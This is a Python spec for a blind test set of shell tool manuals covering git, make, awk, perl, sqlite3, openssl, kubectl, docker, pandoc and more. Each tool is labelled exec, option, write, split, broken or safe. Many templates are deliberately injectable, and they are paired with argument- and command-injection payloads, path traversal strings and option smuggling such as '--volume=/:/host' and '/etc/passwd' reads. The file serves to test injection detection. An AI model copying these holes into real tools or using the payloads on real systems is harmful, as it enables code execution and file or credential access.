# Spec of blind set L. harness.py builds manuals/*.json from TOOLS and confirms each label.
# @name@ in a command is shorthand for UTCP_ARG_name_UTCP_END.
# payload values: {C} canary path, {W} write-target path, {D} temp dir, {id} tool id.
TOOLS = []
_n = [0]

def T(manual, name, cat, cmds, desc, payload=None, check=None, benign=None, setup="", env=None, wd=None,
      inherit=None, extra=None, viol=None, idiom="", progs=(), nostub=False, note=""):
    _n[0] += 1
    if isinstance(cmds, str):
        cmds = [cmds]
    TOOLS.append(dict(id=_n[0], manual=manual, name=name, cat=cat, cmds=cmds, desc=desc, payload=payload or {},
                      check=check, benign=benign, setup=setup, env=env, wd=wd, inherit=inherit, extra=extra or [],
                      viol=viol, idiom=idiom, progs=list(progs), nostub=nostub, note=note))

STUBS = ["gh", "kubectl", "docker", "aws", "helm", "terraform", "gcloud", "npm", "pip", "cargo", "gem", "systemctl",
         "crontab", "psql", "mysql", "redis-cli", "vault", "skopeo", "cosign", "trivy", "pandoc", "gs", "exiftool",
         "ffmpeg", "convert", "dig", "nc", "socat", "ansible-playbook", "rsync", "composer", "poetry", "mc", "restic", "borg",
         "kustomize", "flux", "az", "doctl", "rclone", "s3cmd", "pg_dump", "mongodump", "certbot", "step", "age",
         "sops", "hugo", "mkdocs", "sphinx-build", "podman", "nerdctl", "crane", "ollama", "uv", "pnpm", "yarn",
         "bundle", "go", "mvn", "gradle", "dotnet", "brew", "apt-get", "journalctl", "logrotate", "promtool", "amtool"]

CLIENT_VARS = {
    "relops": {"GH_TOKEN": "ghp_test_token"},
    "cloudops": {"AWS_PROFILE": "staging", "KUBE_CONTEXT": "kind-dev"},
}

SETUP_COMMON = r"""
export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@x GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@x
git init -q -b main . 2>/dev/null
printf 'HEAD of the project\nsecond line\n' > README.md
printf '## 1.0\n- first\n## 1.1\n- second\n' > CHANGELOG.md
printf 'id,name\n1,a\n2,b\n3,c\n' > data.csv
printf '127.0.0.1 - - GET /a 200 512\n127.0.0.1 - - GET /b 500 128\n' > access.log
mkdir -p dist chunks parts reports backups thumbs keys certs logs links markers projects template disks store incoming archive extracted site configs envs worktrees out bin
echo tpl > template/file.txt; echo bin > incoming/upload.bin
git add -A >/dev/null 2>&1; git commit -qm init >/dev/null 2>&1; git tag v1.0 >/dev/null 2>&1
echo more >> README.md; git commit -qam second >/dev/null 2>&1
git branch alpha; git branch beta
git remote add origin "$PWD"
"""

# ---------------- relops: repository maintenance and release engineering ----------------
M = "relops"
T(M, "remote_heads", "exec", "git ls-remote --heads @remote@", "List branch heads of a git remote (name or URL).",
  payload={"remote": "--upload-pack=touch {C};git-upload-pack"}, idiom="git ls-remote value as --upload-pack", progs=["git"])
T(M, "remote_heads_strict", "safe", "git ls-remote --heads --end-of-options @remote@", "List branch heads of a git remote (name or URL).",
  extra=["--upload-pack=touch {C};git-upload-pack", "ext::sh -c touch% {C}"], idiom="--end-of-options before remote", progs=["git"])
T(M, "show_commit", "option", "git show --stat @rev@", "Show a commit summary with file statistics.",
  payload={"rev": "--output={W}"}, check="c.anyw()", idiom="git show rev as --output", progs=["git"])
T(M, "show_commit_eoo", "safe", "git show --stat --end-of-options @rev@", "Show a commit summary with file statistics.",
  extra=["--output={W}", "--ext-diff"], idiom="--end-of-options", progs=["git"])
T(M, "search_code", "exec", "git grep -l @pattern@ HEAD", "List files at HEAD that contain a pattern.",
  payload={"pattern": "--open-files-in-pager=touch {C};true"}, idiom="git grep pattern as -O pager", progs=["git"])
T(M, "search_code_e", "safe", "git grep -n -e @pattern@ HEAD -- '*.md'", "Search markdown files at HEAD for a pattern.",
  extra=["--open-files-in-pager=touch {C};true", "-O touch {C}"], idiom="-e before pattern", progs=["git"])
T(M, "changelog_since_tag", "broken",
  ["prev=$(git describe --tags --abbrev=0 2>/dev/null || git rev-list --max-parents=0 HEAD)",
   "git log --oneline \"$prev\"..@to@"],
  "Changelog from the last tag to a ref.", benign={"to": "HEAD"},
  check="'prev' in c.exc or 'not found' in c.exc.lower()", idiom="shell var $prev taken by client substitution; step vars do not persist", progs=["git"])
T(M, "release_tarball", "write", "git archive --format=tar.gz --prefix=app/ -o \"dist/@version@.tar.gz\" HEAD",
  "Build a source tarball for a version into dist/.", payload={"version": "../../../../../../../tmp/blindL_w_{id}"},
  idiom="archive -o path traversal", progs=["git"])
T(M, "release_tarball_checked", "safe",
  "case @version@ in v[0-9]*.[0-9]*.[0-9]*) ;; *) echo 'version must look like v1.2.3' >&2; exit 2;; esac; case @version@ in */*|*..*) echo bad >&2; exit 2;; esac; git archive --format=tar.gz --prefix=app/ -o \"dist/@version@.tar.gz\" HEAD",
  "Build a source tarball for a version into dist/.", extra=["v1.2.3/../../../../../../tmp/blindL_w_{id}", "v1.0.0 -o{W}"],
  idiom="case guards on version", progs=["git"])
T(M, "prune_branches", "split", "echo @branch@ | xargs git branch -D", "Delete a merged local branch.",
  payload={"branch": "alpha beta"}, check="'Deleted branch alpha' in c.out and 'Deleted branch beta' in c.out",
  idiom="echo | xargs splits a single branch name", progs=["git", "xargs"])
T(M, "prune_branch_safe", "safe", "git branch -D --end-of-options @branch@", "Delete a merged local branch.",
  extra=["alpha beta", "--all"], viol="'Deleted branch alpha' in c.out", idiom="quoted with end-of-options", progs=["git"])
T(M, "untrack_file", "split", "git rm --cached -q $(printf '%s' @path@) && git status --short", "Stop tracking one file, keep it on disk.",
  payload={"path": "README.md CHANGELOG.md"}, check="'D  CHANGELOG.md' in c.out and 'D  README.md' in c.out",
  idiom="unquoted $( ) word splitting", progs=["git", "printf"])
T(M, "new_worktree", "write", "git worktree add -q \"worktrees/@name@\" HEAD && echo created", "Create a scratch worktree under worktrees/.",
  payload={"name": "../../../../../../../tmp/blindL_w_{id}"}, idiom="worktree path traversal", progs=["git"])
T(M, "gh_release", "option", ["test -f CHANGELOG.md", "gh release create @tag@ --title \"Release @tag@\" --notes-file CHANGELOG.md"],
  "Publish a GitHub release for a tag.", payload={"tag": "--repo=attacker/fork"}, check="c.arg('gh','--repo=attacker/fork') and c.log('gh').index('--repo=attacker/fork') < c.log('gh').index('--title')",
  idiom="tag as --repo option (stub gh)", progs=["gh"])
T(M, "gh_comment", "safe", "[[ @number@ =~ ^[0-9]+$ ]] || { echo 'issue number required' >&2; exit 2; }; gh issue comment @number@ --body=@body@",
  "Comment on an issue.", benign={"number": "12", "body": "thanks"}, extra=["--repo=attacker/fork", "--body-file=/etc/passwd"],
  idiom="regex guard + value attached to --body", progs=["gh"])
T(M, "bump_version", "exec", "make -s -f Makefile.release bump VERSION=@version@", "Bump the project version with the release Makefile.",
  setup="printf 'bump:\\n\\t@echo bumping to $(VERSION)\\n' > Makefile.release", payload={"version": "1.2.3; touch {C}"},
  idiom="make variable reaches recipe shell", progs=["make"])
T(M, "bump_version_checked", "safe",
  "[[ @version@ =~ ^[0-9]+\\.[0-9]+\\.[0-9]+$ ]] || { echo 'semver required' >&2; exit 2; }; make -s -f Makefile.release bump VERSION=@version@",
  "Bump the project version with the release Makefile.", setup="printf 'bump:\\n\\t@echo bumping to $(VERSION)\\n' > Makefile.release",
  extra=["1.2.3; touch {C}", "--eval=$(shell touch {C})", "1.2.3\n; touch {C}"], idiom="anchored regex guard", progs=["make"])
T(M, "make_target", "exec", "make -s -C . @target@", "Run a Makefile target in the repository.",
  setup="printf 'test:\\n\\t@echo ok\\n' > Makefile", payload={"target": "--eval=$(shell touch {C})"},
  idiom="make --eval $(shell)", progs=["make"])
T(M, "make_target_allow", "safe", "case @target@ in build|test|lint|docs) make -s @target@ ;; *) echo \"unknown target\" >&2; exit 2;; esac",
  "Run one of the allowed Makefile targets.", setup="printf 'test:\\n\\t@echo ok\\n' > Makefile", extra=["--eval=$(shell touch {C})", "test --eval=x"],
  idiom="case allow-list", progs=["make"])
T(M, "release_notes", "broken", "cat <<'EOF' > RELEASE.md\n# Release @version@\nSee CHANGELOG.md\nEOF\ncat RELEASE.md",
  "Write RELEASE.md for a version.", benign={"version": "1.4.0"}, check="'1.4.0' not in c.out and '__UTCP_ARG' in c.out",
  idiom="placeholder inside quoted heredoc stays literal", progs=["cat"])
T(M, "tag_notes", "broken", "printf '%s\\n' \"Tag: @tag@\" > .tagmsg\n# don't sign here, CI signs\ngit tag -a @tag@ -F .tagmsg && git tag -l @tag@",
  "Create an annotated tag with a message file.", benign={"tag": "v2.0"}, check="'v2.0' not in c.out",
  idiom="apostrophe in comment flips the quote tracker", progs=["git", "printf"])

# ---------------- datawr: data wrangling and log analysis ----------------
M = "datawr"
T(M, "unique_lines", "option", "sort -u @file@ | head -n 50", "Sorted unique lines of a text file.",
  payload={"file": "-o{W}"}, idiom="sort file as -o output", progs=["sort", "head"])
T(M, "unique_lines_safe", "safe", "sort -u -- @file@ | head -n 50", "Sorted unique lines of a text file.",
  benign={"file": "data.csv"}, extra=["--compress-program=touch {C}", "--files0-from=/etc/passwd"], idiom="-- before file", progs=["sort"])
T(M, "sample_rows", "option", "shuf -n 5 @file@", "Random sample of 5 lines from a file.", payload={"file": "-o{W}"},
  idiom="shuf file as -o", progs=["shuf"])
T(M, "sample_rows_safe", "safe", "shuf -n 5 -- @file@", "Random sample of 5 lines from a file.", benign={"file": "data.csv"},
  idiom="-- before file", progs=["shuf"])
T(M, "apply_fix", "option", "patch -s @target@ < fix.patch && echo patched", "Apply the bundled fix.patch to one file.",
  setup="printf 'a\\nb\\n' > conf.txt; printf 'a\\nc\\n' > conf.new; diff -u conf.txt conf.new > fix.patch; sed -i '1,2s#conf.new#conf.txt#' fix.patch",
  benign={"target": "conf.txt"}, payload={"target": "-o{W}"}, idiom="patch target as -o output", progs=["patch"])
T(M, "split_csv", "exec", "split -l 1000 -d @file@ @prefix@ && ls", "Split a CSV into 1000-line chunks with a prefix.",
  payload={"file": "--filter=touch {C}", "prefix": "data.csv"}, idiom="split value as --filter command", progs=["split"])
T(M, "split_csv_dir", "write", "split -l 1000 -d -- data.csv \"chunks/@prefix@\" && ls chunks", "Split data.csv into chunks/<prefix>NN.",
  payload={"prefix": "../../../../../../../tmp/blindL_w_{id}"}, idiom="prefix path traversal", progs=["split"])
T(M, "split_csv_safe", "safe", "p=$(basename -- @prefix@); split -l 1000 -d -- data.csv \"chunks/${p:?}\" && ls chunks",
  "Split data.csv into chunks/<prefix>NN.", extra=["--filter=touch {C}"], idiom="basename on quoted value, ${p:?}", progs=["split", "basename"])
T(M, "section_split", "write", "csplit -s -z -f \"parts/@prefix@\" notes.md '/^## /' '{*}' && ls parts",
  "Split a markdown file at each level-2 heading.", setup="printf '# t\\n## a\\nx\\n## b\\ny\\n' > notes.md",
  payload={"prefix": "../../../../../../../tmp/blindL_w_{id}"}, idiom="csplit -f traversal", progs=["csplit"])
T(M, "awk_filter", "exec", "awk \"/@pattern@/ {n++} END {print n+0}\" access.log", "Count log lines matching a regex.",
  payload={"pattern": "/{system(\"touch {C}\")}/"}, idiom="value spliced into awk program in dq", progs=["awk"])
T(M, "count_matches", "broken", "awk -v pat=@pattern@ 'index($0, pat) {n++} END {print n+0}' access.log", "Count log lines containing a string.",
  benign={"pattern": "GET"}, check="'0' in c.exc or 'not found' in c.exc.lower()", idiom="awk $0 taken by client substitution", progs=["awk"])
T(M, "status_histogram", "broken", "awk '{c[$9]++} END {for (s in c) print s, c[s]}' @file@", "Histogram of HTTP status codes in an access log.",
  benign={"file": "access.log"}, check="'9' in c.exc or 'not found' in c.exc.lower()", idiom="awk $9 taken by client substitution", progs=["awk"])
T(M, "last_line", "broken", "sed -n '$p' @file@", "Print the last line of a file.", benign={"file": "data.csv"},
  check="'3,c' not in c.out", idiom="sed $p taken by client substitution", progs=["sed"])
T(M, "grep_perl", "exec", "perl -ne 'print if /@regex@/' access.log", "Print log lines matching a Perl regex.",
  payload={"regex": "x/; system(\"touch {C}\"); print if /y"}, idiom="placeholder in single-quoted perl code: tracker reopens quotes, value becomes code", progs=["perl"])
T(M, "replace_in_file", "exec", "perl -pi -e 's/@old@/@new@/g' config.ini && cat config.ini", "Replace a string in config.ini.",
  setup="echo 'host=a' > config.ini", benign={"old": "a", "new": "b"}, payload={"new": "b/; system(\"touch {C}\"); s/x/y"},
  idiom="perl -pi -e with sq placeholders", progs=["perl"])
T(M, "json_field", "exec", "python3 -c \"import json; d=json.load(open('data.json')); print(d.get('@key@'))\"", "Read one top-level field of data.json.",
  setup="echo '{\"a\":1}' > data.json", payload={"key": "a'), __import__('os').system('touch {C}'), print('"}, idiom="python -c code string", progs=["python3"])
T(M, "json_field_argv", "safe", "python3 -c 'import json,sys; print(json.load(open(\"data.json\")).get(sys.argv[1]))' @key@", "Read one top-level field of data.json.",
  setup="echo '{\"a\":1}' > data.json", extra=["a'), __import__('os').system('touch {C}'), print('"], idiom="python argv instead of code splice", progs=["python3"])
T(M, "sql_count", "exec", "sqlite3 app.db <<EOF\nSELECT count(*) FROM users WHERE name = '@name@';\nEOF", "Count users with a given name in app.db.",
  setup="sqlite3 app.db 'create table users(name text); insert into users values(\"ann\");'",
  payload={"name": "x\";\n.shell touch {C}\nSELECT \""}, idiom="unquoted heredoc SQL; sqlite dot-command via newline", progs=["sqlite3"])
T(M, "sql_count_id", "safe", "[[ @id@ =~ ^[0-9]+$ ]] || { echo 'numeric id' >&2; exit 2; }\nsqlite3 -readonly app.db \"SELECT count(*) FROM users WHERE rowid = @id@;\"",
  "Count users with a given rowid.", setup="sqlite3 app.db 'create table users(name text); insert into users values(\"ann\");'",
  extra=["1;\n.shell touch {C}", "1 OR 1=1"], idiom="regex guard before SQL in dq", progs=["sqlite3"])
T(M, "sql_backup", "write", "sqlite3 app.db \".backup 'backups/@name@.db'\" && ls backups", "Back up app.db into backups/.",
  setup="sqlite3 app.db 'create table t(x)'", payload={"name": "../../blindL_w_{id}"}, idiom="sqlite .backup path", progs=["sqlite3"])
T(M, "human_size", "safe", "numfmt --to=iec --suffix=B -- @bytes@", "Format a byte count as a human-readable size.",
  extra=["--format=%s", "1 2"], idiom="-- before value", progs=["numfmt"])
T(M, "to_epoch", "safe", "date -u -d @when@ +%s", "Convert a date string to a Unix timestamp.",
  extra=["--file=/etc/passwd", "-f/etc/passwd", "@0"], idiom="value is -d's argument", progs=["date"])
T(M, "count_words", "split", "echo @file@ | xargs wc -w", "Count words in a file.", payload={"file": "README.md CHANGELOG.md"},
  check="'README.md' in c.out and 'CHANGELOG.md' in c.out and 'total' in c.out", idiom="echo | xargs", progs=["xargs", "wc"])
T(M, "join_tables", "safe", "join -t, --header -1 1 -2 1 <(sort -t, -k1,1 -- @left@) <(sort -t, -k1,1 -- @right@)",
  "Join two CSV files on their first column.", benign={"left": "data.csv", "right": "data.csv"}, idiom="process substitution with --", progs=["join", "sort"])
T(M, "column_view", "safe", "column -t -s, -- @file@ | head -n 20", "Pretty-print a CSV as a table.", benign={"file": "data.csv"}, progs=["column"])
T(M, "csv_cut", "broken", ["cols=@columns@", "cut -d, -f\"${cols}\" data.csv"], "Select CSV columns (e.g. 1,3).",
  benign={"columns": "1"}, check="'cols' in c.exc or 'not found' in c.exc.lower()", idiom="${cols} client-substituted and not carried across steps", progs=["cut"])

# ---------------- certkeys: certificates, keys and secrets ----------------
M = "certkeys"
T(M, "cert_subject", "safe", "openssl x509 -in @cert@ -noout -subject -enddate", "Show subject and expiry of a PEM certificate.",
  setup="openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout k.pem -out cert.pem -subj /CN=demo -days 2 2>/dev/null",
  benign={"cert": "cert.pem"}, extra=["-out", "-writerand {W}"], idiom="value is -in's argument", progs=["openssl"])
T(M, "self_signed", "write",
  "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj \"/CN=@cn@\" -keyout \"keys/@cn@.key\" -out \"certs/@cn@.pem\" 2>&1 && ls certs",
  "Create a self-signed dev certificate for a host name.", payload={"cn": "../../../../../../../tmp/blindL_w_{id}"},
  idiom="cn used in key/cert paths", progs=["openssl"])
T(M, "self_signed_checked", "safe",
  "[[ @cn@ =~ ^[A-Za-z0-9][A-Za-z0-9.-]*$ ]] || { echo 'invalid host name' >&2; exit 2; }\nopenssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj \"/CN=@cn@\" -keyout \"keys/@cn@.key\" -out \"certs/@cn@.pem\" 2>&1 && ls certs",
  "Create a self-signed dev certificate for a host name.", extra=["a/O=Evil", "x/../../../../../../tmp/blindL_w_{id}"], idiom="hostname regex guard", progs=["openssl"])
T(M, "csr_subject", "split", "openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout csr.key -subj \"/CN=@cn@/O=Acme Corp\" 2>/dev/null | openssl req -noout -subject",
  "Create a CSR for a common name in the Acme organisation.", payload={"cn": "api.example.com/O=Evil Inc/OU=admin"},
  check="'Evil Inc' in c.out and 'OU' in c.out", idiom="openssl -subj splits the value into extra RDNs", progs=["openssl"])
T(M, "fingerprint", "safe", "openssl x509 -noout -fingerprint -sha256 -in @cert@", "SHA-256 fingerprint of a PEM certificate.",
  setup="openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout k.pem -out cert.pem -subj /CN=demo -days 2 2>/dev/null",
  benign={"cert": "cert.pem"}, progs=["openssl"])
T(M, "checksums_file", "write", "sha256sum -- *.csv *.md > @out@ && echo written", "Write SHA-256 sums of release files to a sums file.",
  payload={"out": "/tmp/blindL_w_{id}"}, idiom="redirect target from value", progs=["sha256sum"])
T(M, "export_pubkey", "option", "gpg --batch --armor --export @keyid@", "Export a public key in ASCII armor.",
  setup="export GNUPGHOME=$PWD/.gnupg; mkdir -m700 -p $GNUPGHOME; gpg --batch --passphrase '' --quick-gen-key t@example.com ed25519 default never 2>/dev/null", env={"GNUPGHOME": ".gnupg"},
  payload={"keyid": "--output={W}"}, idiom="gpg key id as --output", progs=["gpg"])
T(M, "decrypt_sops", "option", "sops --decrypt @file@", "Decrypt a sops-encrypted file to stdout.",
  payload={"file": "--output=/tmp/blindL_w_{id}"}, check="c.log('sops')[1].startswith('--output=')", idiom="file as --output (stub sops)", progs=["sops"])
T(M, "decrypt_sops_safe", "safe", "sops --decrypt -- @file@", "Decrypt a sops-encrypted file to stdout.", progs=["sops"])
T(M, "ssh_fingerprint", "safe", "ssh-keygen -l -f @keyfile@", "Fingerprint of an SSH public key file.",
  setup="ssh-keygen -q -t ed25519 -N '' -f id_test >/dev/null", benign={"keyfile": "id_test.pub"}, extra=["-y"], idiom="value is -f's argument", progs=["ssh-keygen"])
T(M, "cert_expiry_step", "broken", ["openssl x509 -enddate -noout -in @cert@ | cut -d= -f2", "date -d \"$CMD_0_OUTPUT\" +%s"],
  "Expiry of a certificate as a Unix timestamp.",
  setup="openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout k.pem -out cert.pem -subj /CN=demo -days 2 2>/dev/null",
  benign={"cert": "cert.pem"}, check="'CMD_0_OUTPUT' in c.exc", idiom="$CMD_0_OUTPUT is taken by client variable substitution", progs=["openssl", "date"])
T(M, "cert_expiry_chain", "safe", ["openssl x509 -enddate -noout -in @cert@ | cut -d= -f2", "date -u -d \"${CMD_0_OUTPUT:?}\" +%s"],
  "Expiry of a certificate as a Unix timestamp.",
  setup="openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout k.pem -out cert.pem -subj /CN=demo -days 2 2>/dev/null",
  benign={"cert": "cert.pem"}, idiom="${CMD_0_OUTPUT:?} escapes client substitution", progs=["openssl", "date", "cut"])
T(M, "keychain_note", "exec", "bash -c \"ssh-add -l | grep -c @label@\"", "Count loaded SSH agent keys whose comment matches a label.",
  payload={"label": "x; touch {C}"}, idiom="placeholder in dq of bash -c", progs=["bash", "ssh-add", "grep"])
T(M, "rotate_secret", "exec", "printf 'export DB_PASSWORD=%s\\n' @password@ > .env.rotated\n. ./.env.rotated && echo rotated", "Write a rotated DB password to .env.rotated and load it.",
  payload={"password": "$(touch {C})"}, idiom="value written to a file that is then sourced", progs=["printf", "source"])
T(M, "rotate_secret_q", "safe", "printf 'export DB_PASSWORD=%q\\n' @password@ > .env.rotated\n. ./.env.rotated && echo rotated", "Write a rotated DB password to .env.rotated and load it.",
  idiom="printf %q before sourcing", progs=["printf", "source"])

# ---------------- cloudops: cluster and cloud operations (stubbed CLIs) ----------------
M = "cloudops"
T(M, "pod_logs", "option", "kubectl --context \"$KUBE_CONTEXT\" logs @pod@ --tail=200", "Last 200 log lines of a pod (context from the manual's KUBE_CONTEXT variable).",
  payload={"pod": "--kubeconfig=/tmp/attacker.kubeconfig"}, check="c.log('kubectl')[3] == '--kubeconfig=/tmp/attacker.kubeconfig'",
  idiom="pod as option; KUBE_CONTEXT configured as client variable", progs=["kubectl"])
T(M, "pod_logs_safe", "safe", "kubectl --context \"$KUBE_CONTEXT\" logs --tail=200 -- @pod@", "Last 200 log lines of a pod.",
  idiom="-- before pod", progs=["kubectl"])
T(M, "ns_pods", "safe", "kubectl get pods --namespace=@ns@ -o wide", "List pods of a namespace.", idiom="value attached to --namespace=", progs=["kubectl"])
T(M, "first_pod_logs", "split", "kubectl logs \"$(kubectl get pods -l app=@app@ -o name | head -n 1)\" --tail=50",
  "Logs of the first pod of an app label.", payload={"app": "web -A --kubeconfig=/tmp/x"},
  check="'--kubeconfig=/tmp/x' in c.log('kubectl') and '-A' in c.log('kubectl')", idiom="placeholder inside $( ) inside double quotes is left unquoted", progs=["kubectl", "head"])
T(M, "scale_deploy", "safe", "[[ @replicas@ =~ ^[0-9]{1,2}$ ]] || { echo 'replicas 0-99' >&2; exit 2; }; kubectl scale deployment/@name@ --replicas=@replicas@",
  "Scale a deployment.", benign={"replicas": "3", "name": "web"}, idiom="regex guard; name glued to deployment/", progs=["kubectl"])
T(M, "restart_deploy", "exec", "[[ @replicas@ -ge 0 ]] && kubectl scale deployment/web --replicas=@replicas@", "Scale the web deployment.",
  payload={"replicas": "a[$(touch {C})]"}, idiom="[[ -ge ]] arithmetic evaluation in a guard", progs=["kubectl"])
T(M, "helm_deploy", "option", "helm upgrade --install @release@ ./chart -n apps --wait", "Install or upgrade a release from ./chart.",
  payload={"release": "--kube-context=prod-admin"}, check="c.log('helm')[2] == '--kube-context=prod-admin'", idiom="release as option", progs=["helm"])
T(M, "helm_image_tag", "split", "helm upgrade web ./chart -n apps --set image.tag=$(echo @tag@ | tr -d 'v')", "Deploy an image tag (leading v stripped).",
  payload={"tag": "v1.2 --set rbac.create=false"}, check="'rbac.create=false' in c.log('helm')", idiom="unquoted $( ) result", progs=["helm", "tr"])
T(M, "helm_image_tag_q", "split", "helm upgrade web ./chart -n apps --set-string \"image.tag=$(printf '%s' @tag@ | tr -d 'v')\"", "Deploy an image tag (leading v stripped).",
  payload={"tag": "1.2 *"}, check="any(a.startswith('image.tag=1.2') and 'README.md' in a for a in c.log('helm'))",
  idiom="placeholder inside $( ) inside double quotes is unquoted: printf gets several words and a glob", progs=["helm", "tr", "printf"])
T(M, "s3_list", "option", "aws --profile \"$AWS_PROFILE\" s3 ls @prefix@", "List objects under an S3 prefix.",
  payload={"prefix": "--endpoint-url=http://127.0.0.1:9"}, check="'--endpoint-url=http://127.0.0.1:9' in c.log('aws')", idiom="prefix as --endpoint-url", progs=["aws"])
T(M, "s3_list_safe", "safe", "aws --profile \"$AWS_PROFILE\" s3 ls \"s3://reports-bucket/@prefix@\"", "List objects under a report prefix (profile from the manual's AWS_PROFILE variable).", progs=["aws"])
T(M, "s3_upload", "broken", "aws s3 cp \"$report\" s3://reports-bucket/@key@ --profile staging", "Upload the generated report to S3.",
  benign={"key": "r.csv"}, check="'report' in c.exc or 'not found' in c.exc.lower()", idiom="$report client-substituted, never configured", progs=["aws"])
T(M, "tf_output", "option", "terraform -chdir=infra output -raw @name@", "Read one Terraform output value.",
  payload={"name": "-state=/tmp/other.tfstate"}, check="c.log('terraform')[3] == '-state=/tmp/other.tfstate'", idiom="name as -state", progs=["terraform"])
T(M, "tf_plan_var", "safe", "terraform -chdir=infra plan -input=false -var \"region=@region@\"", "Plan with a region variable.", idiom="value inside -var's argument", progs=["terraform"])
T(M, "gcloud_cat", "option", "gcloud storage cat @object@", "Print an object from Cloud Storage.",
  payload={"object": "--impersonate-service-account=admin@proj.iam.gserviceaccount.com"}, check="c.log('gcloud')[2].startswith('--impersonate')", progs=["gcloud"])
T(M, "run_image", "option", "docker run --rm @image@ ./healthcheck.sh", "Run the health check inside an image.",
  payload={"image": "--volume=/:/host"}, check="c.log('docker')[2] == '--volume=/:/host'", idiom="image as docker run option", progs=["docker"])
T(M, "run_image_checked", "safe", "[[ @image@ =~ ^[a-z0-9][a-z0-9./:@_-]*$ ]] || { echo 'bad image ref' >&2; exit 2; }; docker run --rm @image@ ./healthcheck.sh",
  "Run the health check inside an image.", extra=["--volume=/:/host", "--privileged"], idiom="image regex guard", progs=["docker"])
T(M, "image_lower", "split", "docker pull $(echo @image@ | tr '[:upper:]' '[:lower:]')", "Pull an image (name lower-cased).",
  payload={"image": "Alpine --platform=linux/evil"}, check="'--platform=linux/evil' in c.log('docker')", idiom="unquoted $( )", progs=["docker", "tr"])
T(M, "copy_image", "option", "skopeo copy docker://registry.local/@src@ @dest@", "Copy an image between registries.",
  benign={"src": "app:1", "dest": "docker://mirror.local/app:1"}, payload={"dest": "--dest-creds=admin:pw"}, check="'--dest-creds=admin:pw' in c.log('skopeo')", progs=["skopeo"])
T(M, "verify_sig", "safe", "cosign verify --key cosign.pub -- @image@", "Verify an image signature.", progs=["cosign"])
T(M, "scan_image", "split", "trivy image --severity HIGH,CRITICAL $(printf '%s' @image@)", "Scan an image for vulnerabilities.",
  payload={"image": "alpine:3 --output /tmp/x"}, check="'--output' in c.log('trivy') and '/tmp/x' in c.log('trivy')", idiom="unquoted $( )", progs=["trivy"])
T(M, "vault_read", "option", "vault kv get -field=password @path@", "Read a password from Vault KV.",
  payload={"path": "-address=http://127.0.0.1:9"}, check="'-address=http://127.0.0.1:9' in c.log('vault')", progs=["vault"])
T(M, "kube_env", "broken", "kubectl get pods -A", "List all pods.", env={"KUBECONFIG": "$HOME/.kube/config"},
  benign={}, check="'HOME' in c.exc", idiom="$HOME in env_vars is client-substituted", progs=["kubectl"])
T(M, "ctx_ns_pods", "broken", "kubectl config use-context $CTX >/dev/null && kubectl get pods -n @ns@", "List pods in the CTX cluster.",
  check="'CTX' in c.exc", idiom="$CTX expected from the shell", progs=["kubectl"])
T(M, "flux_reconcile", "safe", "flux reconcile kustomization --with-source -- @name@", "Reconcile a Flux kustomization.", progs=["flux"])
T(M, "podman_exec", "exec", "podman ps >/dev/null; sh -c \"podman exec web cat /etc/app/@file@\"", "Print a config file from the web container.",
  payload={"file": "a; touch {C}"}, idiom="sh -c with dq placeholder", progs=["podman", "sh"])

# ---------------- mediadoc: media conversion and document builds ----------------
M = "mediadoc"
IMG = "convert -size 8x8 xc:red in.png"
T(M, "thumbnail", "write", "convert in.png -resize 50% \"thumbs/@name@.png\" && ls thumbs", "Create a half-size thumbnail named <name>.png in thumbs/.",
  setup=IMG, payload={"name": "../../../../../../../tmp/blindL_w_{id}"}, check="any(os.path.realpath(os.path.join(c.D, a)) == c.W + '.png' for a in c.log('convert'))", idiom="output path traversal (stub convert)", progs=["convert"])
T(M, "thumbnail_safe", "safe", "n=$(basename -- @name@ .png); convert in.png -resize 50% \"thumbs/${n:?}.png\" && ls thumbs",
  "Create a half-size thumbnail named <name>.png in thumbs/.", setup=IMG, extra=["msl:x", "|touch {C}"], idiom="basename of quoted value", progs=["convert", "basename"])
T(M, "annotate", "broken", "convert in.png -gravity south -annotate +0+5 \"Build $BUILD_ID\" -- @out@", "Stamp the build id on the image.",
  setup=IMG, benign={"out": "stamped.png"}, check="'BUILD_ID' in c.exc", idiom="$BUILD_ID (CI shell variable) is taken by client substitution", progs=["convert"])
T(M, "md_to_html", "option", "pandoc -s @src@ -o site/index.html", "Render a markdown file to site/index.html.",
  payload={"src": "--lua-filter=/tmp/evil.lua"}, check="c.log('pandoc')[1] == '--lua-filter=/tmp/evil.lua'", idiom="source as pandoc option", progs=["pandoc"])
T(M, "md_to_html_safe", "safe", "pandoc -s -o site/index.html -- @src@", "Render a markdown file to site/index.html.", progs=["pandoc"])
T(M, "pdf_merge", "split", "gs -q -dBATCH -dNOPAUSE -sDEVICE=pdfwrite -sOutputFile=merged.pdf $(echo @files@)", "Merge a PDF into merged.pdf.",
  payload={"files": "a.pdf -sOutputFile=/tmp/x.pdf"}, check="'-sOutputFile=/tmp/x.pdf' in c.log('gs')", idiom="unquoted $( )", progs=["gs"])
T(M, "pdf_page_count", "safe", "gs -q -dNODISPLAY -dNOSAFER -c \"(report.pdf) (r) file runpdfbegin pdfpagecount = quit\"; echo @label@", "Count pages of report.pdf and echo a label.",
  progs=["gs"], idiom="value only echoed")
T(M, "strip_exif", "option", "exiftool -all= -overwrite_original @file@", "Strip all metadata from an image.",
  payload={"file": "-o/tmp/blindL_w_{id}"}, check="c.log('exiftool')[2].startswith('-o/tmp/')", progs=["exiftool"])
T(M, "strip_exif_safe", "safe", "exiftool -all= -overwrite_original -- @file@", "Strip all metadata from an image.", progs=["exiftool"])
T(M, "extract_audio", "write", "ffmpeg -y -i input.mp4 -vn \"audio/@name@.m4a\"", "Extract the audio track into audio/<name>.m4a.",
  payload={"name": "../../../../../tmp/blindL_w_{id}"}, check="any(a.endswith('/tmp/blindL_w_%d.m4a' % c.id) for a in c.log('ffmpeg'))", idiom="traversal in output path (stub)", progs=["ffmpeg"])
